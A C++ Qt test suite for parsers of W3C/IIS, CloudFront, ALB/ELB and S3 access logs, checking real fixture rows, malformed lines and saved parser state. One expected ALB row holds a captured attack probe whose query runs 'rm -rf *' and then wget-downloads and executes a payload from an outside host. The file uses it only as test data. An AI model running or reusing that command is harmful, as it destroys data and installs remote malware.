// W3C extended (IIS and friends), CloudFront, ALB/ELB and S3 access logs:
// real fixture rows checked field by field, the #Fields state machinery, and
// the malformed cases.

#include "formats/formatregistry.h"

#include <QFile>
#include <QTest>
#include <string>

using namespace es;

namespace {

struct Expected
{
    QByteArray ip{};
    QByteArray forwardedFor{};
    QByteArray user{};
    QByteArray method{};
    QByteArray path{};
    QByteArray query{};
    QByteArray protocol{};
    QByteArray referrer{};
    QByteArray userAgent{};
    QByteArray site{};
    qint64 ts = 0;
    int status = -1;
    qint64 bytes = -1;
    qint64 durationUs = -1;
};

QByteArray qb(std::string_view v)
{
    return QByteArray(v.data(), qsizetype(v.size()));
}

// A whole file in one buffer with the 64 bytes of padding the parsers may read.
struct PaddedFile
{
    bool load(const QString &path)
    {
        QFile f(path);
        if (!f.open(QIODevice::ReadOnly))
            return false;
        const QByteArray all = f.readAll();
        storage.assign(all.constData(), std::size_t(all.size()));
        storage.append(64, '\0');
        const std::string_view text(storage.data(), std::size_t(all.size()));
        std::size_t pos = 0;
        while (pos < text.size()) {
            std::size_t end = text.find('\n', pos);
            if (end == std::string_view::npos)
                end = text.size();
            lines.push_back(text.substr(pos, end - pos));
            pos = end + 1;
        }
        return true;
    }
    std::string storage;
    std::vector<std::string_view> lines;
};

std::string padded(const QByteArray &line)
{
    std::string s(line.constData(), std::size_t(line.size()));
    s.append(64, '\0');
    return s;
}

std::unique_ptr<LineParser> parserFor(const QString &format, const QString &timeZone = QString())
{
    QString error;
    FormatSpec spec = parseFormatArgument(format, &error);
    spec.timeZone = timeZone;
    auto parser = makeParser(spec, &error);
    if (!parser)
        qWarning() << "cannot create parser" << format << error;
    return parser;
}

void compareRecord(const Record &r, const Expected &e)
{
    QCOMPARE(qb(r.clientIp), e.ip);
    QCOMPARE(qb(r.forwardedFor), e.forwardedFor);
    QCOMPARE(qb(r.user), e.user);
    QCOMPARE(r.tsMs, e.ts);
    QCOMPARE(qb(r.method), e.method);
    QCOMPARE(qb(r.path), e.path);
    QCOMPARE(qb(r.query), e.query);
    QCOMPARE(qb(r.protocol), e.protocol);
    QCOMPARE(r.status, e.status);
    QCOMPARE(r.bytes, e.bytes);
    QCOMPARE(qb(r.referrer), e.referrer);
    QCOMPARE(qb(r.userAgent), e.userAgent);
    QCOMPARE(qb(r.site), e.site);
    QCOMPARE(r.durationUs, e.durationUs);
}

bool haveSharedData()
{
    return QFile::exists(QStringLiteral(ES_SHARED_DATA_DIR));
}

const QByteArray kChrome78 =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/78.0.3904.108 Safari/537.36";
const QByteArray kBingbot = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)";

} // namespace

Q_DECLARE_METATYPE(Expected)

class TestFormatsW3c : public QObject
{
    Q_OBJECT

private slots:
    void realRows_data();
    void realRows();
    void skippedEntries_data();
    void skippedEntries();
    void malformed_data();
    void malformed();
    void stateSurvivesResume();
    void stateThroughTheInterface();
    void localTimesUseTheConfiguredZone();
};

void TestFormatsW3c::realRows_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QString>("format");
    QTest::addColumn<int>("lineNo");
    QTest::addColumn<Expected>("expected");

    // CloudFront: user agents are percent-encoded twice (%2520) in standard
    // logs and once in others; both decode to plain text.
    QTest::newRow("cloudfront awssamples 3") << "aws/awssamples_cloudfront_standard_2018.log"
                                             << "cloudfront" << 3
                                             << Expected{.ip = "3.120.138.129",
                                                         .method = "GET",
                                                         .path = "/notavailable.json",
                                                         .protocol = "HTTP/1.1",
                                                         .userAgent = kBingbot,
                                                         .site = "d345qc258n54ge.cloudfront.net",
                                                         .ts = 1541549528000,
                                                         .status = 302,
                                                         .bytes = 376,
                                                         .durationUs = 394000};
    QTest::newRow("cloudfront elastic 4, IPv6 client")
        << "aws/elastic_integrations_test-cloudfront.log"
        << "cloudfront" << 4
        << Expected{.ip = "2a02:cf40:add:4002:91f2:a9b2:e09a:6fc6",
                    .method = "GET",
                    .path = "/index.html",
                    .protocol = "HTTP/2.0",
                    .userAgent = kChrome78,
                    .site = "d111111abcdef8.cloudfront.net",
                    .ts = 1575493351000,
                    .status = 200,
                    .bytes = 392,
                    .durationUs = 0};
    QTest::newRow("cloudfront elastic 10, status 000")
        << "aws/elastic_integrations_test-cloudfront.log"
        << "cloudfront" << 10
        << Expected{.ip = "81.2.69.143",
                    .method = "POST",
                    .path = "/getApplications",
                    .query = "source=global",
                    .protocol = "HTTP/2.0",
                    .referrer = "https://test.com/global",
                    .userAgent =
                        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                        "Chrome/100.0.4896.127 Safari/537.36",
                    .site = "test.com",
                    .ts = 1650371376000,
                    .status = 0,
                    .bytes = 10157,
                    .durationUs = 238000};
    QTest::newRow("cloudfront elastic 11, forwarded-for")
        << "aws/elastic_integrations_test-cloudfront.log"
        << "cloudfront" << 11
        << Expected{.ip = "81.2.69.143",
                    .forwardedFor = "81.2.69.142,216.160.83.56",
                    .method = "GET",
                    .path = "/getApplications",
                    .protocol = "HTTP/1.1",
                    .referrer = "https://test.com/global",
                    .userAgent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
                                 "HeadlessChrome/100.0.4896.88 Safari/537.36",
                    .site = "test.com",
                    .ts = 1668501784000,
                    .status = 200,
                    .bytes = 10157,
                    .durationUs = 93000};
    QTest::newRow("cloudfront elastic 14, short row")
        << "aws/elastic_integrations_test-cloudfront.log"
        << "cloudfront" << 14
        << Expected{.ip = "127.0.0.1",
                    .method = "GET",
                    .path = "/en(test)",
                    .protocol = "HTTP/1.1",
                    .referrer = "https://domain.tld/",
                    .userAgent = "User-Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; 360SE)",
                    .site = "domain.tld",
                    .ts = 1720884585000,
                    .status = 404,
                    .bytes = 198083,
                    .durationUs = 318000};
    QTest::newRow("cloudfront tab-separated header, 34 cells")
        << "aws/claygregory_cloudfront_web-1-0-2019-12.log"
        << "cloudfront" << 5
        << Expected{.ip = "192.0.2.100",
                    .method = "GET",
                    .path = "/index.html",
                    .protocol = "HTTP/2.0",
                    .userAgent = kChrome78,
                    .site = "d111111abcdef8.cloudfront.net",
                    .ts = 1575493351000,
                    .status = 200,
                    .bytes = 392,
                    .durationUs = 1000};
    QTest::newRow("cloudfront 24 fields, query")
        << "aws/claygregory_cloudfront_web-1-0.log"
        << "cloudfront" << 4
        << Expected{.ip = "192.0.2.202",
                    .method = "GET",
                    .path = "/soundtrack/happy.mp3",
                    .query = "a=b&c=d",
                    .protocol = "HTTP/1.1",
                    .referrer = "www.unknownsingers.com",
                    .userAgent =
                        "Mozilla/5.0 (iPhone; CPU iPhone OS 10_2_1 like Mac OS X) AppleWebKit/602.4.6 "
                        "(KHTML, like Gecko) Version/10.0 Mobile/14D27 Safari/602.1",
                    .site = "d111111abcdef8.cloudfront.net",
                    .ts = 1400807592000,
                    .status = 304,
                    .bytes = 2390282,
                    .durationUs = 2000};
    QTest::newRow("cloudfront RTMP, space-separated")
        << "aws/matomo_amazon_cloudfront_rtmp.log"
        << "cloudfront" << 4
        << Expected{.ip = "192.0.2.222",
                    .method = "play",
                    .path = "/cfx/st\xe2\x80\x8b",
                    .query = "key=value",
                    .referrer = "http://player.longtailvideo.com/player.swf",
                    .userAgent = "LNX 10,0,32,18",
                    .site = "shqshne4jdp4b6.cloudfront.net",
                    .ts = 1268437881000,
                    .bytes = 3914};

    // W3C / IIS
    QTest::newRow("iis 6")
        << "edge_cases/matomo_iis.log"
        << "w3c" << 5
        << Expected{.ip = "1.2.3.4",
                    .user = "theuser",
                    .method = "GET",
                    .path = "/foo/bar",
                    .query = "topCat1=divinity&submit=Search",
                    .protocol = "HTTP/1.1",
                    .userAgent =
                        "Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.9.2.7) Gecko/20100722 Firefox/3.6.7",
                    .site = "example.com",
                    .ts = 1333238413000,
                    .status = 200,
                    .bytes = 27028,
                    .durationUs = 1687000};
    QTest::newRow("time-only rows take #Date")
        << "edge_cases/lnav_logfile_w3c.2"
        << "w3c" << 5
        << Expected{
               .ip = "1.1.1.1", .method = "[2]USER", .path = "anonymous", .ts = 971109889000, .status = 331};
    QTest::newRow("second header block, new #Date")
        << "edge_cases/lnav_logfile_w3c.2"
        << "w3c" << 20
        << Expected{
               .ip = "1.1.1.1", .method = "[2]USER", .path = "anonymous", .ts = 971196289000, .status = 331};
    QTest::newRow("#GMT-Offset, quoted cells")
        << "edge_cases/lnav_logfile_w3c.1"
        << "w3c" << 7
        << Expected{.ip = "64.103.37.2",
                    .user = "DMS.user",
                    .method = "GET",
                    .path = "/admin/images/oc_bottomleft.gif",
                    .referrer = "http://www.oracle.com/nl/partner/content.html",
                    .userAgent = "Mozilla/4.5 [en] (WinNT; I)",
                    .ts = 1004515218000,
                    .status = 200,
                    .bytes = 350,
                    .durationUs = 370879000};
    QTest::newRow("quoted cell with \"\" escapes and spaces")
        << "edge_cases/lnav_logfile_w3c.3"
        << "w3c" << 10
        << Expected{.ip = "173.5.0.0",
                    .method = "GET",
                    .path = "/hello/world/6,681965",
                    .userAgent =
                        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_10_1) AppleWebKit/537.36 (KHTML, like "
                        "Gecko) Chrome/37.0.2062.124 Safari/537.36",
                    .site = "hello.example.com",
                    .ts = 1345050000675,
                    .status = 404,
                    .durationUs = 359000};
    QTest::newRow("incapsula, all cells quoted")
        << "edge_cases/matomo_incapsula_w3c.log"
        << "w3c" << 5
        << Expected{.ip = "123.123.123.123",
                    .forwardedFor = "123.123.123.123",
                    .method = "GET",
                    .path = "/page.php",
                    .query = "variable=test",
                    .protocol = "HTTP",
                    .userAgent =
                        "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                        "Chrome/58.0.3029.110 Safari/537.36",
                    .site = "www.example.com",
                    .ts = 1498634795000,
                    .status = 200};
    QTest::newRow("'+' for spaces, '++' keeps a plus")
        << "edge_cases/lnav_logfile_w3c_big.0"
        << "w3c" << 20
        << Expected{.ip = "66.249.78.6",
                    .method = "GET",
                    .path = "/robots.txt",
                    .userAgent = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                    .ts = 1421137338000,
                    .status = 404,
                    .bytes = 1405,
                    .durationUs = 156000};
    QTest::newRow("non-ASCII user agent")
        << "edge_cases/lnav_logfile_w3c.6"
        << "w3c" << 5
        << Expected{
               .ip = "157.55.39.146",
               .method = "GET",
               .path = "/robots.txt",
               .userAgent =
                   "\xc3\x84\xc3\x96\xc3\x9c\xc3\xa4\xc3\xb6\xc3\xbc\\\xc3\x9f\xc3\x9f\xc3\x9f"
                   "M\xc3\xb6zill\xc3\xa4/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
               .ts = 1421109137000,
               .status = 404,
               .bytes = 1405,
               .durationUs = 283000};
    QTest::newRow("shoutcast, c-status, percent-encoded agent")
        << "edge_cases/matomo_shoutcast.log"
        << "w3c" << 4
        << Expected{.ip = "1.2.3.4",
                    .path = "/stream",
                    .query = "title=UKR%20Nights",
                    .userAgent = "NSPlayer/10.0.0.3702 WMFSDK/10.0",
                    .ts = 1449484625000,
                    .status = 200,
                    .bytes = 65580};

    // ALB and classic ELB
    QTest::newRow("alb awssamples, -1 timings")
        << "aws/awssamples_alb_2018.log"
        << "alb" << 1
        << Expected{.ip = "185.25.104.250",
                    .method = "GET",
                    .path = "/",
                    .protocol = "HTTP/1.1",
                    .userAgent =
                        "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
                        "Chrome/51.0.2704.103 Safari/537.36",
                    .site = "54.236.119.61",
                    .ts = 1541664933779,
                    .status = 460,
                    .bytes = 0};
    QTest::newRow("alb elastic 1") << "aws/elastic_integrations_test-alb.log"
                                   << "alb" << 1
                                   << Expected{.ip = "192.168.131.39",
                                               .method = "GET",
                                               .path = "/",
                                               .protocol = "HTTP/1.1",
                                               .userAgent = "curl/7.46.0",
                                               .site = "www.example.com",
                                               .ts = 1530570180186,
                                               .status = 200,
                                               .bytes = 366,
                                               .durationUs = 1000};
    QTest::newRow("alb elastic 2, space in URI")
        << "aws/elastic_integrations_test-alb.log"
        << "alb" << 2
        << Expected{.ip = "67.43.156.20",
                    .method = "GET",
                    .path = "/shell",
                    .query = "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws",
                    .protocol = "HTTP/1.1",
                    .userAgent = "Hello, world",
                    .site = "127.0.0.1",
                    .ts = 1652337689051,
                    .status = 301,
                    .bytes = 390};
    QTest::newRow("alb matomo, domain_name")
        << "aws/matomo_alb.log"
        << "alb" << 1
        << Expected{.ip = "1.2.3.4",
                    .method = "GET",
                    .path = "/path/index.html",
                    .protocol = "HTTP/1.1",
                    .userAgent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/535.11 (KHTML, like Gecko) "
                                 "Chrome/17.0.963.56 Safari/535.11",
                    .site = "www.example.com",
                    .ts = 1577840104127,
                    .status = 200,
                    .bytes = 24950,
                    .durationUs = 103000};
    QTest::newRow("classic elb")
        << "aws/matomo_elb.log"
        << "alb" << 1
        << Expected{.ip = "1.2.3.4",
                    .method = "GET",
                    .path = "/path/index.html",
                    .protocol = "HTTP/1.1",
                    .userAgent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/535.11 (KHTML, like Gecko) "
                                 "Chrome/17.0.963.56 Safari/535.11",
                    .site = "www.example.com",
                    .ts = 1431560383945,
                    .status = 200,
                    .bytes = 57,
                    .durationUs = 2471};

    // S3
    QTest::newRow("s3 matomo")
        << "aws/matomo_s3.log"
        << "s3" << 1
        << Expected{.ip = "1.2.3.4",
                    .user = "arn:aws:iam::179580289999:user/phillip.boss",
                    .method = "GET",
                    .path = "/index",
                    .protocol = "HTTP/1.1",
                    .userAgent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/535.11 (KHTML, like Gecko) "
                                 "Chrome/17.0.963.56 Safari/535.11",
                    .site = "www.example.com",
                    .ts = 1328910127000,
                    .status = 200,
                    .bytes = 368,
                    .durationUs = 10000};
    QTest::newRow("s3 elastic 3, query")
        << "aws/elastic_integrations_test-s3-server-access.log"
        << "s3" << 3
        << Expected{.ip = "89.160.20.156",
                    .user = "arn:aws:sts::123456:assumed-role/AWSServiceRoleForTrustedAdvisor/"
                            "TrustedAdvisor_627959692251_784ab70b-8cc9-4d37-a2ec-2ff4d0c08af9",
                    .method = "GET",
                    .path = "/test-s3-ks/",
                    .query = "max-keys=0&encoding-type=url&aws-account=627959692251",
                    .protocol = "HTTP/1.1",
                    .userAgent =
                        "AWS-Support-TrustedAdvisor, aws-internal/3 aws-sdk-java/1.11.590 "
                        "Linux/4.9.137-0.1.ac.218.74.329.metal1.x86_64 OpenJDK_64-Bit_Server_VM/25.212-b03 "
                        "java/1.8.0_212 vendor/Oracle_Corporation",
                    .site = "test-s3-ks",
                    .ts = 1564619083000,
                    .status = 200,
                    .bytes = 265,
                    .durationUs = 2000};
    QTest::newRow("s3 elastic 5, no request line")
        << "aws/elastic_integrations_test-s3-server-access.log"
        << "s3" << 5
        << Expected{.ip = "89.160.20.156",
                    .user = "arn:aws:iam::123456:user/test@elastic.co",
                    .site = "jsoriano-s3-test",
                    .ts = 1568128267000,
                    .status = 204,
                    .bytes = 0};
}

void TestFormatsW3c::realRows()
{
    QFETCH(QString, file);
    QFETCH(QString, format);
    QFETCH(int, lineNo);
    QFETCH(Expected, expected);
    if (!haveSharedData())
        QSKIP("The shared real-log folder is not present");
    PaddedFile input;
    QVERIFY(input.load(QStringLiteral(ES_SHARED_DATA_DIR "/") + file));
    QVERIFY(std::size_t(lineNo) <= input.lines.size());
    auto parser = parserFor(format);
    QVERIFY(parser);
    Record r;
    // Headers come first in these files, so every earlier line is fed.
    for (int i = 0; i < lineNo - 1; ++i)
        parser->parse(input.lines[std::size_t(i)], r);
    const ParseResult result = parser->parse(input.lines[std::size_t(lineNo - 1)], r);
    QVERIFY2(result == ParseResult::Ok, parser->reason().data());
    compareRecord(r, expected);
}

void TestFormatsW3c::skippedEntries_data()
{
    QTest::addColumn<QString>("format");
    QTest::addColumn<QByteArray>("line");
    QTest::newRow("NLB TLS entry")
        << "alb"
        << QByteArray("tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 "
                      "g3d4b5e8bb8464cd 192.168.131.39:2817 10.0.0.1:80 5 2 98 246 - - - - - - -");
    QTest::newRow("ALB connection log")
        << "alb"
        << QByteArray("2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 "
                      "ECDHE-RSA-AES128-GCM-SHA256 4.036 \"CN=x\" - FEF257372D5C14D4 Success");
    QTest::newRow("ELB TCP listener")
        << "alb"
        << QByteArray("2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 "
                      "10.0.0.1:80 0.001069 0.000028 0.000041 - - 82 305 \"- - - \" \"-\" - -");
    QTest::newRow("W3C directive") << "w3c"
                                   << QByteArray("#Software: Microsoft Internet Information Services 8.5");
    QTest::newRow("W3C blank with spaces") << "w3c" << QByteArray("    \r");
    QTest::newRow("S3 comment") << "s3" << QByteArray("# nothing");
}

void TestFormatsW3c::skippedEntries()
{
    QFETCH(QString, format);
    QFETCH(QByteArray, line);
    auto parser = parserFor(format);
    const std::string buffer = padded(line);
    Record r;
    QCOMPARE(parser->parse(std::string_view(buffer.data(), std::size_t(line.size())), r), ParseResult::Skip);
}

void TestFormatsW3c::malformed_data()
{
    QTest::addColumn<QString>("format");
    QTest::addColumn<QByteArray>("header");
    QTest::addColumn<QByteArray>("line");
    QTest::addColumn<QByteArray>("reason");
    const QByteArray fields =
        "#Fields: date time c-ip cs-method cs-uri-stem sc-status sc-bytes cs(User-Agent)";
    QTest::newRow("w3c without header")
        << "w3c" << QByteArray() << QByteArray("2015-01-13 00:32:17 1.2.3.4 GET / 200 5 ua")
        << QByteArray("no #Fields header");
    QTest::newRow("too few cells") << "w3c" << fields << QByteArray("2015-01-13 00:32:17 1.2.3.4 GET")
                                   << QByteArray("too few fields");
    QTest::newRow("broken quote") << "w3c" << fields
                                  << QByteArray("2015-01-13 00:32:17 1.2.3.4 GET / 200 5 \"agent without end")
                                  << QByteArray("unterminated quoted field");
    QTest::newRow("bad time") << "w3c" << fields << QByteArray("2015-01-13 25:32:17 1.2.3.4 GET / 200 5 ua")
                              << QByteArray("bad timestamp");
    QTest::newRow("bad status") << "w3c" << fields << QByteArray("2015-01-13 00:32:17 1.2.3.4 GET / 2x0 5 ua")
                                << QByteArray("bad status");
    QTest::newRow("cloudfront cut row")
        << "cloudfront" << QByteArray() << QByteArray("2019-12-04\t21:02:31\tLAX1\t392\t192.0.2.100\tGET")
        << QByteArray("too few fields");
    QTest::newRow("alb unknown type")
        << "alb" << QByteArray() << QByteArray("ftp 2018 x y z") << QByteArray("unknown entry type");
    QTest::newRow("alb cut in quotes")
        << "alb" << QByteArray()
        << QByteArray("http 2018-07-02T22:23:00.186641Z app/x 1.2.3.4:2817 10.0.0.1:80 0.000 0.001 0.000 200 "
                      "200 34 366 \"GET http://x/ HT")
        << QByteArray("unterminated quoted field");
    QTest::newRow("alb too short") << "alb" << QByteArray()
                                   << QByteArray("http 2018-07-02T22:23:00.186641Z app/x 1.2.3.4:2817")
                                   << QByteArray("too few fields");
    QTest::newRow("s3 on a combined line")
        << "s3" << QByteArray()
        << QByteArray("1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET / HTTP/1.0\" 301 368")
        << QByteArray("not an S3 access log line");
}

void TestFormatsW3c::malformed()
{
    QFETCH(QString, format);
    QFETCH(QByteArray, header);
    QFETCH(QByteArray, line);
    QFETCH(QByteArray, reason);
    auto parser = parserFor(format);
    Record r;
    if (!header.isEmpty()) {
        const std::string h = padded(header);
        QCOMPARE(parser->parse(std::string_view(h.data(), std::size_t(header.size())), r), ParseResult::Skip);
    }
    const std::string buffer = padded(line);
    QCOMPARE(parser->parse(std::string_view(buffer.data(), std::size_t(line.size())), r),
             ParseResult::Malformed);
    QCOMPARE(qb(parser->reason()), reason);
}

void TestFormatsW3c::stateSurvivesResume()
{
    if (!haveSharedData())
        QSKIP("The shared real-log folder is not present");
    PaddedFile input;
    QVERIFY(input.load(QStringLiteral(ES_SHARED_DATA_DIR "/edge_cases/lnav_logfile_w3c.2")));
    QCOMPARE(input.lines.size(), std::size_t(22));

    // Reference: one parser over the whole file.
    auto whole = parserFor(QStringLiteral("w3c"));
    QVERIFY(whole->isStateful());
    std::vector<std::int64_t> reference;
    Record r;
    for (std::string_view line : input.lines) {
        if (whole->parse(line, r) == ParseResult::Ok)
            reference.push_back(r.tsMs);
    }
    QCOMPARE(reference.size(), std::size_t(14));

    // Interrupted after every line in turn: a fresh parser restored from the
    // saved state must produce exactly the rest of the reference.
    for (std::size_t cut = 0; cut < input.lines.size(); ++cut) {
        auto first = parserFor(QStringLiteral("w3c"));
        std::vector<std::int64_t> got;
        for (std::size_t i = 0; i < cut; ++i) {
            if (first->parse(input.lines[i], r) == ParseResult::Ok)
                got.push_back(r.tsMs);
        }
        const QString saved = first->state();
        auto second = parserFor(QStringLiteral("w3c"));
        QVERIFY(second->restoreState(saved));
        for (std::size_t i = cut; i < input.lines.size(); ++i) {
            if (second->parse(input.lines[i], r) == ParseResult::Ok)
                got.push_back(r.tsMs);
        }
        QCOMPARE(got, reference);
    }
}

void TestFormatsW3c::stateThroughTheInterface()
{
    auto parser = parserFor(QStringLiteral("cloudfront"));
    QVERIFY(parser->isStateful());
    QCOMPARE(parser->state(), QString());
    const QByteArray header = "#Fields: date time c-ip cs-method cs-uri-stem sc-status time-taken";
    const std::string h = padded(header);
    Record r;
    QCOMPARE(parser->parse(std::string_view(h.data(), std::size_t(header.size())), r), ParseResult::Skip);
    QCOMPARE(parser->state(),
             QStringLiteral("#Fields: date time c-ip cs-method cs-uri-stem sc-status time-taken"));

    auto copy = parser->clone();
    QCOMPARE(copy->state(), parser->state());
    const QByteArray row = "2020-01-02\t03:04:05\t10.0.0.9\tGET\t/x\t200\t1.5";
    const std::string b = padded(row);
    QCOMPARE(copy->parse(std::string_view(b.data(), std::size_t(row.size())), r), ParseResult::Ok);
    QCOMPARE(qb(r.path), QByteArray("/x"));
    QCOMPARE(r.durationUs, qint64(1500000));
    QCOMPARE(r.tsMs, qint64(1577934245000));

    QVERIFY(!copy->restoreState(QStringLiteral("not a directive")));
    QCOMPARE(copy->state(), QString());
    QVERIFY(copy->restoreState(QString()));
}

void TestFormatsW3c::localTimesUseTheConfiguredZone()
{
    if (!haveSharedData())
        QSKIP("The shared real-log folder is not present");
    PaddedFile input;
    QVERIFY(input.load(QStringLiteral(ES_SHARED_DATA_DIR "/edge_cases/matomo_iis_custom.log")));
    // date-local/time-local columns: 2012-08-15 17:00:00.363 local time.
    auto utc = parserFor(QStringLiteral("w3c"));
    auto plusTwo = parserFor(QStringLiteral("w3c"), QStringLiteral("+02:00"));
    QVERIFY(utc && plusTwo);
    Record a;
    Record b;
    for (std::size_t i = 0; i < 8; ++i) {
        utc->parse(input.lines[i], a);
        plusTwo->parse(input.lines[i], b);
    }
    QCOMPARE(a.tsMs, qint64(1345050000363));
    QCOMPARE(b.tsMs, qint64(1345050000363 - 2 * 3600 * 1000));
}

QTEST_GUILESS_MAIN(TestFormatsW3c)
#include "tst_formats_w3c.moc"
